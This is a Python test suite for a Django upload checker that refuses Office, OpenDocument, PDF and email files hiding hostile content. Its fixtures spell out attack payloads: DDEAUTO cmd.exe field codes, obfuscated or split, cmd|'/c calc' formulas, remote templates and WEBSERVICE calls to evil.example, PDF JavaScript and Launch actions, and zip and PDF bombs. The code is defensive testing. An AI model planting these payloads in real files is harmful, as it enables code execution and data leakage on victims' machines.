"""What an accepted kind may hide: programs, other files, addresses, what unpacks without end."""

import io
import struct
import subprocess
import tracemalloc
import zipfile
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from documents.dangers import archives
from documents.uploads import check_upload
from tests.documents.files import EML, ODT, OLE, PDF, archive, docx, office, xlsx

AS_PDF = "enregistrez-le en PDF, puis envoyez ce PDF."
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refusal(name: str, content: bytes) -> ValidationError | None:
    try:
        check_upload(SimpleUploadedFile(name, content))
    except ValidationError as error:
        return error
    return None


def relations(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{TYPES}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )


def with_parts(content: bytes, parts: dict[str, bytes | str]) -> bytes:
    whole = io.BytesIO(content)
    with zipfile.ZipFile(whole, "a", zipfile.ZIP_DEFLATED) as opened:
        for name, part in parts.items():
            opened.writestr(name, part)
    return whole.getvalue()


def odt(content: str, **more: str) -> bytes:
    return archive(mimetype=ODT, content_xml=content, **more)


ODF = (
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
OFFICE = {
    "an external template": ({"word/_rels/settings.xml.rels": relations(
        "attachedTemplate", "https://evil.example/a.dotm")}, "outside"),
    "a template of the machine, told as a part": ({"word/_rels/settings.xml.rels": relations(
        "attachedTemplate", "file:///C:/a.dotm", "Internal")}, "outside"),
    "a template of a network, told as a part": ({"word/_rels/settings.xml.rels": relations(
        "attachedTemplate", r"\\evil\a.dotm", "Internal")}, "outside"),
    "a linked image": ({"word/_rels/document.xml.rels": relations(
        "image", "http://evil.example/a.png", "external")}, "outside"),
    "a linked workbook": ({"xl/externalLinks/externalLink1.xml": "<x/>"}, "outside"),
    "a table asked for when it opens": ({"xl/connections.xml": (
        '<connections><connection refreshOnLoad="1"><webPr url="http://evil.example/a"/>'
        "</connection></connections>")}, "outside"),
    "an OLE part": ({"word/embeddings/oleObject1.bin": OLE}, "inside"),
    "an OLE part under another name": ({"word/media/image1.png": OLE}, "inside"),
    "a program as an image": ({"word/media/image1.png": b"MZ\x90\0"}, "inside"),
    "an ActiveX control": ({"word/activeX/activeX1.xml": "<x/>"}, "program"),
    "a sheet of macros": ({"xl/macrosheets/sheet1.xml": "<x/>"}, "program"),
    "macros told by their type": ({"[Content_Types].xml": (
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        "</Types>")}, "program"),
    "a page poured into it": ({"word/_rels/document.xml.rels": relations(
        "aFChunk", "a.html", "Internal")}, "inside"),
    "a command to another program, in pieces": ({"word/footer1.xml": (
        '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText xml:space="preserve"> DD</w:instrText>'
        '<w:instrText>EAUTO c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:p>'
    )}, "program"),
    "a text fetched from elsewhere": ({"word/header1.xml": (
        '<w:fldSimple w:instr=" includetext http://evil.example/a"/>')}, "outside"),
    "a command that hides its letters": ({"word/footer1.xml": (
        '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>&#68;DEAUTO c:\\\\cmd.exe'
        '</w:instrText><w:fldChar w:fldCharType="end"/></w:p>')}, "program"),
    "a text fetched by hidden letters": ({"word/header1.xml": (
        '<w:fldSimple w:instr=" &#x49;NCLUDETEXT http://evil.example/a"/>')}, "outside"),
    "a command behind an empty piece": ({"word/footer1.xml": (
        '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText/><w:instrText a=">">DDE c:\\\\cmd.exe'
        '</w:instrText><w:fldChar w:fldCharType="end"/></w:p>')}, "program"),
    "an archive within": ({"word/media/a.zip": archive(a="x")}, "inside"),
    "a document within": ({"word/embeddings/a.docx": docx()}, "inside"),
    "a workbook within, with its macros": ({"word/embeddings/a.xlsx": office(
        "xl/workbook.xml", xl__macrosheets__a_xml="<x/>")}, "program"),
}  # fmt: skip


@pytest.mark.parametrize(("parts", "code"), OFFICE.values(), ids=OFFICE)
def test_an_office_document_that_hides_something_is_refused(parts, code):
    content = docx()
    if "[Content_Types].xml" in parts:
        content = archive(word__document_xml="<x/>")
    error = refusal("a.docx", with_parts(content, parts))
    assert error.code == code
    assert error.messages[0].endswith(AS_PDF)


def sheet(formula: str) -> dict[str, str]:
    return {"xl/worksheets/sheet1.xml": f'<c r="A1"><f t="x">{formula}</f><v>0</v></c>'}


ASKING = {
    "a table asked for every minute": ({"xl/connections.xml": (
        '<connection interval="1"><webPr url="http://evil.example/a"/></connection>')}, "outside"),
    "a query that asks when it opens": (
        {"xl/queryTables/queryTable1.xml": '<queryTable refreshOnLoad="1"/>'}, "outside"),
    "a pivot table of another base": ({"xl/pivotCache/pivotCacheDefinition1.xml": (
        '<x refreshOnLoad="true"><cacheSource type="external" connectionId="1"/></x>')}, "outside"),
    "a formula that asks a site": (sheet('_xlfn.WEBSERVICE("http://evil.example")'), "outside"),
    "a picture of a site": (sheet("_xlfn.IMAGE(A2)"), "outside"),
    "a formula that hides its letters": (sheet("&#87;EBSERVICE(A2)"), "outside"),
    "a formula that calls a program": (sheet("cmd|'/c calc'!A1"), "program"),
    "a name that calls a program": (
        {"xl/workbook2.xml": "", "xl/worksheets/sheet2.xml": (
            '<definedName name="a">cmd|&apos;/c calc&apos;!A1</definedName>')}, "program"),
    "a formula cut by a note": (sheet("WEB<!-- -->SERVICE(A2)"), "content"),
}  # fmt: skip


@pytest.mark.parametrize(("parts", "code"), ASKING.values(), ids=ASKING)
def test_a_workbook_that_asks_elsewhere_is_refused(parts, code):
    content = office("xl/workbook.xml")
    assert refusal("a.xlsx", with_parts(content, parts)).code == code


def test_a_workbook_whose_formulas_ask_nobody_is_accepted():
    formulas = [
        'IF(A1="a|b","WEBSERVICE(",1)', "'Caf | Agglo'!A1", "SUM(A1:A9)", "MYIMAGE(A1)",
        "SUM(T[a|b])",
        'HYPERLINK("https://caf.example")',
    ]  # fmt: skip
    for formula in formulas:
        content = with_parts(office("xl/workbook.xml"), sheet(formula))
        assert refusal("a.xlsx", content) is None, formula
    pivot = '<x refreshOnLoad="1"><cacheSource type="worksheet"/></x>'
    parts = {"xl/pivotCache/pivotCacheDefinition1.xml": pivot, "xl/tables/table1.xml": "<table/>"}
    assert refusal("a.xlsx", with_parts(office("xl/workbook.xml"), parts)) is None


def test_brackets_within_brackets_of_a_formula_are_read_as_a_column():
    """Excel writes « this line, from a to b » of a table in this way."""
    workbook = with_parts(office("xl/workbook.xml"), sheet("SUM(T[[#This Row],[a|b]])"))
    assert refusal("a.xlsx", workbook) is None
    calls = with_parts(office("xl/workbook.xml"), sheet("T[[#This Row],[a]]+cmd|&apos;/c&apos;!A"))
    assert refusal("a.xlsx", calls).code == "program"


MANY = {
    "formulas": ("a.xlsx", sheet("a</f><f>" * 500_000)),
    "letters of a formula": ("a.xlsx", sheet("&amp;" * 500_000)),
    "pieces of a field": ("a.docx", {"word/a.xml": "<instrText> </instrText>" * 500_000}),
    "fields": ("a.docx", {"word/a.xml": "fldCharType='begin" * 500_000}),
    "relations": ("a.docx", {
        f"word/_rels/{n}.rels": f"<a>{'<a/>' * 20_000}</a>" for n in range(10)}),
}  # fmt: skip


@pytest.mark.parametrize(("name", "parts"), MANY.values(), ids=MANY)
def test_a_file_of_too_many_formulas_is_refused_without_reading_them_all(name, parts, monkeypatch):
    """A hundred kilobytes may hold twelve million formulas, which are never all read at once."""
    monkeypatch.setattr(archives, "MAX_COMMANDS", 50_000)
    content = with_parts(docx() if name == "a.docx" else office("xl/workbook.xml"), parts)
    tracemalloc.start()
    try:
        assert refusal(name, content).code == "huge"
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 60 * 1024**2


def test_a_command_in_many_pieces_is_refused():
    pieces = "".join(f"<w:instrText>{sign}</w:instrText>" for sign in [" ", "&#32;", *"DDEAUTO c:"])
    begun = '<w:fldChar w:fldCharType="begin"/>'
    for part in (pieces, f"<w:instrText>PAGE</w:instrText>{begun}{pieces}"):
        content = with_parts(docx(), {"word/footer1.xml": f"<w:p>{begun}{part}</w:p>"})
        assert refusal("a.docx", content).code == "program"


@pytest.mark.parametrize("command", ["DD<!-- -->EAUTO c:", "<![CDATA[DDE]]>AUTO c:", "DD<?x?>E c:"])
def test_a_command_that_is_cut_by_a_note_is_refused(command):
    part = f'<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>{command}</w:instrText></w:p>'
    assert refusal("a.docx", with_parts(docx(), {"word/footer1.xml": part})).code == "content"


@pytest.mark.parametrize("part", ["word/a.xml", "xl/connections.xml"])
def test_a_part_in_utf_16_is_refused(part):
    hidden = '<?xml version="1.0" encoding="UTF-16"?><w:p/>'.encode("utf-16")
    assert refusal("a.docx", with_parts(docx(), {part: hidden})).code == "content"


def test_an_office_document_with_links_and_a_workbook_is_accepted():
    content = with_parts(docx(), {
        "word/_rels/document.xml.rels": relations("hyperlink", "https://caf.example"),
        "word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx(),
        "word/media/image1.png": b"\x89PNG",
        "xl/connections.xml": '<connection refreshOnLoad="0"><webPr url="http://caf.example"/>',
        "word/footer1.xml": (
            '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText> HYPERLINK "https://caf.example/'
            'dde link" </w:instrText><w:fldChar w:fldCharType="end"/><w:fldSimple w:instr="PAGE"/>'
        ),
    })  # fmt: skip
    assert refusal("a.docx", content) is None


OPEN_DOCUMENTS = {
    "macros": (odt("<x/>", Basic__Standard__a_xml="<x/>"), "program"),
    "a script": (odt("<x/>", Scripts__python__a_py="x"), "program"),
    "an event": (odt(f"<x {ODF}><script:event-listener/></x>"), "program"),
    "a linked image": (
        odt(f'<x {ODF}><draw:image xlink:href="https://evil.example/a.png"/></x>'), "outside"),
    "a linked section": (
        odt(f'<x {ODF}><text:section-source xlink:href="file:///etc/passwd"/></x>'), "outside"),
    "an address that hides its letters": (
        odt(f'<x {ODF}><draw:image a=">" xlink:href="&#104;ttp://evil.example"/></x>'), "outside"),
    "a formula that calls a program": (
        odt("<x table:formula='of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)'/>"),
        "program"),
    "a name that calls a program": (
        odt("<table:named-expression table:expression=\"of:=cmd|'/c calc'!A1\"/>"), "program"),
    "a formula that asks a site": (
        odt('<x table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/>'), "outside"),
    "another writing": (odt("<x/>", styles_xml="<x/>".encode("utf-16")), "content"),
    "another writing, told": (odt('<?xml version="1.0" encoding="utf-7"?><x/>'), "content"),
    "an entity": (odt('<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "content"),
    "an OLE object": (with_parts(odt("<x/>"), {"Object 1": OLE}), "inside"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "code"), OPEN_DOCUMENTS.values(), ids=OPEN_DOCUMENTS)
def test_an_open_document_that_hides_something_is_refused(content, code):
    assert refusal("a.odt", content).code == code


def test_an_open_document_with_links_and_objects_is_accepted():
    content = odt(
        f'<?xml version="1.0" encoding="UTF-8"?><x {ODF}><text:a xlink:href="https://caf.example"/>'
        '<draw:image xlink:href="Pictures/a"/>'
        '<draw:object xlink:href="./Object 1"/></x>'
    )
    assert refusal("a.odt", content) is None


class TestBombs:
    def test_an_archive_that_declares_too_much_is_not_unpacked(self, monkeypatch):
        bomb = with_parts(docx(), {"word/media/a.bmp": b"\0" * (archives.MAX_UNPACKED + 1)})
        monkeypatch.delattr(archives, "zlib")
        error = refusal("a.docx", bomb)
        assert error.code == "huge"
        assert "100\u00a0Mo" in error.messages[0]

    def test_an_archive_that_declares_less_than_it_holds_is_refused(self):
        lying = bytearray(with_parts(docx(), {"a.bin": b"\0" * 5_000_000}))
        size, entry = struct.pack("<I", 5_000_000), lying.rindex(b"PK\1\2")
        at = lying.index(size, entry)
        lying[at : at + 4] = struct.pack("<I", 10)
        lying[entry + 16 : entry + 20] = struct.pack("<I", zlib.crc32(b"\0" * 10))
        assert refusal("a.docx", bytes(lying)).code == "content"

    def test_nested_archives_count_together(self, monkeypatch):
        monkeypatch.setattr(archives, "MAX_UNPACKED", 150_000)
        inner = with_parts(xlsx(), {"xl/media/a.bmp": b"\0" * 100_000})
        outer = with_parts(docx(), {f"word/embeddings/{i}.xlsx": inner for i in range(2)})
        assert refusal("a.docx", with_parts(docx(), {"word/embeddings/1.xlsx": inner})) is None
        assert refusal("a.docx", outer).code == "huge"

    def test_a_part_that_stands_twice_is_refused(self):
        with pytest.warns(UserWarning, match="Duplicate name"):
            twice = with_parts(docx(), {"word/document.xml": "<y/>"})
        assert refusal("a.docx", twice).code == "content"


def pdf(packing=pikepdf.ObjectStreamMode.generate, **catalog) -> bytes:
    """A PDF of one page whose objects are packed, as writers do today."""
    content = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        for name, value in catalog.items():
            made.Root[f"/{name}"] = made.make_indirect(value)
        made.save(content, object_stream_mode=packing)
    return content.getvalue()


def action(kind: str, **entries) -> pikepdf.Dictionary:
    entries = {name: one if name != "Next" else pikepdf.Array(one) for name, one in entries.items()}
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **entries)


def script() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def disguised() -> bytes:
    content = pdf(pikepdf.ObjectStreamMode.disable, OpenAction=script())
    assert b"/JavaScript" in content
    return content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


class TestPdf:
    @pytest.mark.parametrize(
        ("content", "code"),
        [
            (pdf(OpenAction=script()), "program"),
            (pdf(AA=pikepdf.Dictionary(WC=script())), "program"),
            (pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")), "program"),
            (pdf(OpenAction=action("GoToR", F="//serveur/a.pdf")), "outside"),
            (pdf(OpenAction=action("GoTo", Next=[action("URI", URI="http://a.example")])),
             "outside"),
            (pdf(AA=pikepdf.Dictionary(O=action("SubmitForm", F="http://a.example"))), "outside"),
            (pdf(AA=pikepdf.Dictionary(O=action("GoTo", Next=[action("Thread", F="b.pdf")]))),
             "outside"),
            (disguised(), "program"),
            (pdf(AF=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary())),
             "inside"),
        ],
        ids=["opening", "closing", "launch", "another file", "an address", "a form",
             "one after another", "in disguise", "a file"],
    )  # fmt: skip
    def test_a_pdf_that_hides_something_is_refused(self, content, code):
        error = refusal("a.pdf", content)
        assert error.code == code
        assert error.messages[0].endswith("imprimez-le en PDF, puis envoyez cette copie.")

    def test_a_pdf_with_links_and_destinations_is_accepted(self):
        assert refusal("a.pdf", pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.GoTo))) is None
        followed = pikepdf.Dictionary(A=action("URI", URI="https://caf.fr"))
        page = pikepdf.Dictionary(Type=pikepdf.Name.Page, Annots=[followed])
        assert refusal("a.pdf", pdf(OpenAction=[page, pikepdf.Name.Fit])) is None

    def test_a_pdf_whose_packed_objects_are_disguised_is_refused(self):
        content = pdf(OpenAction=script())
        assert b"/JS" not in content
        error = refusal("a.pdf", content.replace(b"/Type /ObjStm", b"/Tipe /ObjStn"))
        assert error.code in {"program", "content"}

    def test_a_locked_pdf_is_refused(self):
        content = io.BytesIO()
        with pikepdf.new() as made:
            made.add_blank_page()
            made.save(content, encryption=pikepdf.Encryption(owner="a", user="b"))
        assert refusal("a.pdf", content.getvalue()).code == "locked"

    def test_a_pdf_that_takes_too_long_to_read_is_refused(self, monkeypatch):
        def never(command, **kwargs):
            raise subprocess.TimeoutExpired(command, 1)

        monkeypatch.setattr(subprocess, "run", never)
        assert refusal("a.pdf", pdf()).code == "content"

    def test_a_pdf_that_unpacks_without_end_is_read_apart(self):
        packed = zlib.compress(b" " * 50_000_000)
        bomb = PDF.replace(b"<<>>endobj", b"<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length "
                           + str(len(packed)).encode() + b">>stream\n" + packed
                           + b"\nendstream\nendobj")  # fmt: skip
        refusal("a.pdf", bomb)  # in its own process, whatever is answered


@pytest.mark.parametrize("name", ["a.exe.pdf", "Délibération.SCR .pdf", "a.docm.pdf", "a.js.pdf"])
def test_a_name_that_hides_a_program_is_refused(name):
    error = refusal(name, PDF)
    assert error.code == "name"
    assert error.messages[0].endswith("renommez-le, puis envoyez-le.")


@pytest.mark.parametrize("name", ["a.b.c.pdf", "avenant.docx.pdf", "caf.fr, avis.pdf"])
def test_a_name_with_dots_is_accepted(name):
    assert refusal(name, PDF) is None


def test_a_mail_that_brings_a_program_is_refused():
    mail = EML.replace(
        b"Subject: Accord\r\n\r\n",
        b"Subject: Accord\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''facture.e%78e\r\n\r\nMZ\r\n--x--\r\n",
    )
    assert refusal("a.eml", mail).code == "program"


class TestMails:
    def test_a_mail_that_takes_too_long_to_parse_is_refused(self, monkeypatch):
        """The mail is read apart, for some seconds, since nobody counts its parts."""

        def never(command, **kwargs):
            raise subprocess.TimeoutExpired(command, 1)

        monkeypatch.setattr(subprocess, "run", never)
        assert refusal("a.eml", EML).code == "content"

    def test_a_mail_of_endless_parts_is_refused(self, monkeypatch):
        monkeypatch.setattr("documents.dangers.mail.SECONDS", 1)
        whole = b"Content-Type: multipart/mixed; boundary=x\r\n\r\n" + b"--x\r\n\r\n" * 1_000_000
        assert refusal("a.eml", EML.partition(b"\r\n\r\n")[0] + b"\r\n" + whole).code == "content"

    def test_a_mail_that_no_parser_reads_is_refused(self):
        """The standard library fails on some mails."""
        header = b"Content-Disposition: attachment; filename=" + b"(" * 5000
        assert (
            refusal("a.eml", EML.replace(b"Subject:", header + b"\r\nSubject:")).code == "content"
        )
